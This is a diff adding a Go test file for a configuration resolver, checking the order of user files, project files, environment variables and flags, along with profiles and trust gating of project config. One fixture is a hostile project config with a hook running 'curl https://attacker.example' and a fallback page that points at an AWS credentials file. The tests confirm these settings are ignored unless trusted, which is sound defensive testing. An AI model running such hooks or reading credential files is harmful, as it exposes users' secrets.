@@ -0,0 +1,241 @@
+package app
+
+import (
+	"flag"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// resolve resolves the settings of the user configuration file and the project one, skipped if empty,
+// under the environment variables of env and the command line args
+func resolve(t *testing.T, user string, project string, env map[string]string, args ...string) (Config, []Setting, error) {
+	t.Helper()
+
+	userFile := filepath.Join(t.TempDir(), "config.yaml")
+	if err := os.WriteFile(userFile, []byte(user), 0600); err != nil {
+		t.Fatal(err)
+	}
+	t.Chdir(t.TempDir())
+	if project != "" {
+		if err := os.WriteFile(projectConfigFile, []byte(project), 0600); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	// Unset variables of the environment running the tests
+	t.Setenv(profileEnv, env[profileEnv])
+	for _, def := range settingDefs {
+		t.Setenv(def.env, env[def.env])
+	}
+
+	fs := flag.NewFlagSet("test", flag.ContinueOnError)
+	var config Config
+	config.RegisterFlags(fs)
+	if err := fs.Parse(append([]string{"--config", userFile}, args...)); err != nil {
+		t.Fatal(err)
+	}
+
+	settings, err := config.Resolve(fs)
+	return config, settings, err
+}
+
+// setting returns the setting of settings with the key
+func setting(t *testing.T, settings []Setting, key string) Setting {
+	t.Helper()
+	for _, s := range settings {
+		if s.Key == key {
+			return s
+		}
+	}
+	t.Fatalf("No setting %s in %+v", key, settings)
+	return Setting{}
+}
+
+func TestResolve_Precedence(t *testing.T) {
+	user := "domain: user.example\nprofiles:\n  staging:\n    domain: user-staging.example\n"
+	project := "domain: project.example\nprofiles:\n  staging:\n    domain: project-staging.example\n"
+
+	tests := []struct {
+		name    string
+		user    string
+		project string
+		env     map[string]string
+		args    []string
+		value   string
+		source  string
+	}{
+		{name: "default", source: "default"},
+		{name: "user file", user: user, value: "user.example", source: "config.yaml"},
+		{name: "project file", user: user, project: project, value: "project.example", source: projectConfigFile},
+		{name: "user profile", user: user, args: []string{"--profile", "staging"}, value: "user-staging.example", source: "profile staging ("},
+		{name: "project profile", user: user, project: project, args: []string{"--profile", "staging"}, value: "project-staging.example", source: "profile staging (" + projectConfigFile + ")"},
+		{name: "profile of the environment", user: user, env: map[string]string{profileEnv: "staging"}, value: "user-staging.example", source: "profile staging ("},
+		{name: "environment", user: user, project: project, env: map[string]string{"SERVICE_EXPORTER_DOMAIN": "env.example"}, args: []string{"--profile", "staging"}, value: "env.example", source: "env SERVICE_EXPORTER_DOMAIN"},
+		{name: "flag", user: user, project: project, env: map[string]string{"SERVICE_EXPORTER_DOMAIN": "env.example"}, args: []string{"--profile", "staging", "--domain", "flag.example"}, value: "flag.example", source: "flag --domain"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			config, settings, err := resolve(t, tt.user, tt.project, tt.env, tt.args...)
+			if err != nil {
+				t.Fatalf("Resolve should not return an error: %v", err)
+			}
+
+			domain := setting(t, settings, "domain")
+			if domain.Value != tt.value || !strings.Contains(domain.Source, tt.source) {
+				t.Errorf("Expected domain %q from %q, got %+v", tt.value, tt.source, domain)
+			}
+			if config.Domain != tt.value {
+				t.Errorf("Expected the configuration's domain %q, got %q", tt.value, config.Domain)
+			}
+		})
+	}
+}
+
+func TestResolve_Profile(t *testing.T) {
+	user := "profile: staging\nprofiles:\n  staging:\n    ttl: 1h\n  prod:\n    ttl: 10m\n"
+
+	tests := []struct {
+		name    string
+		project string
+		env     map[string]string
+		args    []string
+		profile string
+		source  string
+		err     string
+	}{
+		{name: "user file", profile: "staging", source: "config.yaml"},
+		{name: "project file", project: "profile: prod\n", profile: "prod", source: projectConfigFile},
+		{name: "environment", project: "profile: prod\n", env: map[string]string{profileEnv: "staging"}, profile: "staging", source: "env " + profileEnv},
+		{name: "flag", env: map[string]string{profileEnv: "staging"}, args: []string{"--profile", "prod"}, profile: "prod", source: "flag --profile"},
+		{name: "unknown profile", args: []string{"--profile", "dev"}, err: `unknown profile "dev", available profiles: prod, staging`},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, settings, err := resolve(t, user, tt.project, tt.env, tt.args...)
+			if tt.err != "" {
+				if err == nil || err.Error() != tt.err {
+					t.Fatalf("Expected error %q, got %v", tt.err, err)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("Resolve should not return an error: %v", err)
+			}
+
+			profile := setting(t, settings, "profile")
+			if profile.Value != tt.profile || !strings.Contains(profile.Source, tt.source) {
+				t.Errorf("Expected profile %q from %q, got %+v", tt.profile, tt.source, profile)
+			}
+		})
+	}
+}
+
+func TestResolve_TrustProjectConfig(t *testing.T) {
+	project := `kubeconfig: /tmp/other-kubeconfig
+writeEnv: /tmp/.env
+controlAddr: 0.0.0.0:4040
+fallbackPage: /home/user/.aws/credentials
+healthCheck:
+  type: http
+  path: /never-healthy
+hooks:
+- command: curl https://attacker.example
+domain: project.example
+`
+
+	tests := []struct {
+		name    string
+		args    []string
+		trusted bool
+	}{
+		{name: "untrusted"},
+		{name: "trusted", args: []string{"--trust-project-config"}, trusted: true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			config, settings, err := resolve(t, "", project, nil, tt.args...)
+			if err != nil {
+				t.Fatalf("Resolve should not return an error: %v", err)
+			}
+
+			// Settings a project may always set are applied
+			if config.Domain != "project.example" {
+				t.Errorf("Expected the project's domain, got %q", config.Domain)
+			}
+
+			applied := map[string]bool{
+				"kubeconfig":   config.KubeconfigPath == "/tmp/other-kubeconfig",
+				"writeEnv":     config.WriteEnv == "/tmp/.env",
+				"controlAddr":  config.ControlAddr == "0.0.0.0:4040",
+				"fallbackPage": config.File.FallbackPage != "",
+				"healthCheck":  config.File.HealthCheck.Enabled(),
+				"hooks":        len(config.File.Hooks) > 0,
+			}
+			for key, ok := range applied {
+				if ok != tt.trusted {
+					t.Errorf("Expected %s applied to be %t", key, tt.trusted)
+				}
+			}
+			if source := setting(t, settings, "kubeconfig").Source; (source == projectConfigFile) != tt.trusted {
+				t.Errorf("Unexpected kubeconfig source %q", source)
+			}
+		})
+	}
+}
+
+func TestFileConfig_Untrusted(t *testing.T) {
+	tests := []struct {
+		name    string
+		config  string
+		ignored []string
+	}{
+		{name: "nothing ignored", config: "domain: project.example\nservices:\n  staging/api:\n    limits:\n      burst: 5\n"},
+		{
+			name:    "settings",
+			config:  "kubeconfig: /k\ncontext: prod\npolicy: /p\nwriteEnv: /e\nauditLog: \"\"\ncontrolAddr: \"\"\nnoPreflight: true\n",
+			ignored: []string{"kubeconfig", "context", "policy", "writeEnv", "auditLog", "controlAddr", "noPreflight"},
+		},
+		{
+			name:    "hooks, health check and fallback page",
+			config:  "hooks:\n- command: id\nhealthCheck:\n  type: tcp\nfallbackPage: /f\n",
+			ignored: []string{"hooks", "healthCheck", "fallbackPage"},
+		},
+		{
+			name:    "services",
+			config:  "services:\n  staging/web:\n    fallbackPage: /f\n  staging/api:\n    healthCheck:\n      type: tcp\n",
+			ignored: []string{"services.staging/api.healthCheck", "services.staging/web.fallbackPage"},
+		},
+		{
+			name:    "profiles",
+			config:  "profiles:\n  prod:\n    context: prod\n    controlAddr: 0.0.0.0:4040\n  dev:\n    writeEnv: /e\n",
+			ignored: []string{"profiles.dev.writeEnv", "profiles.prod.context", "profiles.prod.controlAddr"},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			path := filepath.Join(t.TempDir(), "config.yaml")
+			if err := os.WriteFile(path, []byte(tt.config), 0600); err != nil {
+				t.Fatal(err)
+			}
+			config, _, err := loadFileConfig(path, true)
+			if err != nil {
+				t.Fatalf("loadFileConfig should not return an error: %v", err)
+			}
+
+			untrusted, ignored := config.untrusted()
+			if fmt.Sprint(ignored) != fmt.Sprint(tt.ignored) {
+				t.Errorf("Expected ignored keys %v, got %v", tt.ignored, ignored)
+			}
+			if _, ignored := untrusted.untrusted(); len(ignored) > 0 {
+				t.Errorf("Expected nothing left to ignore, got %v", ignored)
+			}
+		})
+	}
+}